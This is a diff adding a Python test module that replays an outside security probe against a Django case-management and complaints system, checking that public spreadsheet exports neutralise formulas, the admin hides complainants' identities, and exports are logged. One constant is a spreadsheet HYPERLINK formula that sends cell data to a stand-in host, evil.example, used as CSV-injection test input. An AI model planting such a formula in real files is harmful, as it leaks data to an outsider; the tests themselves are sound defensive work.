@@ -1,0 +1,113 @@
+"""The second outside probe (docs/adr/0047): what the first (0042) did not try.
+
+Each test is an attack the probe made that worked, replayed through the paths an outsider
+or a curious insider uses (the public downloads, the Django admin, the workbench exports,
+the JSON API); each fails on the tree before its fix.
+"""
+
+import csv
+import io
+import logging
+from datetime import date
+
+import pytest
+from cases.factories import make_case
+from openpyxl import load_workbook
+
+from sanxiang.catalog import actions as catalog_actions
+from sanxiang.catalog.models import Catalogue
+from sanxiang.supervision import actions as supervision_actions
+
+pytestmark = pytest.mark.django_db
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+
+
+def _items_with_a_formula(body):
+    catalogue = catalog_actions.get_or_create_catalogue(body=body, kind=Catalogue.Kind.ITEMS,
+                                                        acting_user=None)
+    catalog_actions.publish_version(
+        catalogue=catalogue, acting_user=None, effective_from=date(2026, 1, 1), note="@SUM(1)",
+        add=[{"category": "行政处罚", "code": "AQ-CF-001", "name": FORMULA,
+              "legal_bases": "《中华人民共和国安全生产法》第九十七条", "unit": "-执法大队",
+              "time_limit": "+90日", "time_limit_days": 90, "field": "AQSC"}])
+    return catalogue
+
+
+def test_public_list_downloads_never_hand_out_a_formula_R_PUB_01(client, body_a, fields):
+    """Anyone downloads a body's lists; what staff typed into them must open as text in
+    Excel, never run as a formula (OWASP CSV injection) — and import back unchanged."""
+    from sanxiang.catalog import spreadsheets
+
+    catalogue = _items_with_a_formula(body_a)
+    base = f"/catalogues/items/{body_a.credit_code}/export"
+    book = load_workbook(io.BytesIO(client.get(f"{base}.xlsx").getvalue()))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert any(cell.value == FORMULA for cell in cells)
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    response = client.get(f"{base}.csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    texts = [value for row in rows[1:] for value in row]
+    assert "'" + FORMULA in texts and "'-执法大队" in texts
+    assert not [value for value in texts if value[:1] in "=+-@"]
+    for data in (response.content, client.get(f"{base}.xlsx").getvalue()):
+        report = spreadsheets.import_file(catalogue, data, acting_user=None,
+                                          effective_from=date(2026, 2, 1), note="导入")
+        assert report.ok and report.changed == [] and report.added == [], report.lines()
+
+
+def test_admin_shows_the_complainant_only_to_the_handling_office_R_SUP_02(
+        admin_user, supervisor_user, body_a, client_for):
+    complaint, _code = supervision_actions.file_complaint(
+        body=body_a, kind="complaint", conduct="执法人员态度恶劣，未出示证件。", anonymous=False,
+        name="举报人甲乙", phone="13912345678", address="滹阳县幸福路8号")
+    page = client_for(admin_user).get(f"/admin/supervision/complaint/{complaint.pk}/change/")
+    assert page.status_code == 200
+    text = page.content.decode()
+    for identity in ("举报人甲乙", "13912345678", "幸福路8号"):
+        assert identity not in text
+    assert supervision_actions.may_see_identity(supervisor_user, complaint)
+    handler = client_for(supervisor_user).get(f"/workbench/supervision/complaints/"
+                                              f"{complaint.pk}/")
+    assert "举报人甲乙" in handler.content.decode()
+
+
+def _access_lines(caplog):
+    return [r for r in caplog.records if r.name == "sanxiang.access"]
+
+
+def test_case_list_export_is_logged_R_REC_06(officer_user_a, officer_a1, officer_a2, body_a,
+                                             client_for, caplog):
+    make_case(body_a, [officer_a1, officer_a2], acting_user=officer_user_a)
+    with caplog.at_level(logging.INFO, logger="sanxiang.access"):
+        response = client_for(officer_user_a).get("/workbench/cases/export.xlsx")
+    assert response.status_code == 200
+    [line] = _access_lines(caplog)
+    assert line.access_action == "export" and line.access_user_id == officer_user_a.pk
+
+
+@pytest.mark.parametrize("kind", ["cases", "complaints", "documents", "outcomes",
+                                  "evaluations"])
+def test_supervision_exports_are_logged_R_REC_06(kind, supervisor_user, client_for, caplog):
+    with caplog.at_level(logging.INFO, logger="sanxiang.access"):
+        response = client_for(supervisor_user).get(f"/workbench/supervision/export/{kind}.xlsx")
+    assert response.status_code == 200
+    [line] = _access_lines(caplog)
+    assert line.access_action == "export" and line.access_user_id == supervisor_user.pk
+
+
+def test_api_document_read_is_logged_R_REC_06(officer_user_a, officer_a1, officer_a2,
+                                              body_a, client_for, caplog):
+    from cases.test_documents import DECISION_DATA, ago, at_decision
+
+    from sanxiang.cases.document_actions import issue_document
+
+    case = make_case(body_a, [officer_a1, officer_a2], acting_user=officer_user_a, days_ago=60)
+    at_decision(case)
+    document = issue_document(acting_user=None, case=case, doc_type="penalty_decision",
+                              issued_on=ago(30), data=DECISION_DATA)
+    with caplog.at_level(logging.INFO, logger="sanxiang.access"):
+        response = client_for(officer_user_a).get(f"/api/cases/documents/{document.pk}")
+    assert response.status_code == 200
+    [line] = _access_lines(caplog)
+    assert line.access_subject_id == str(document.pk)
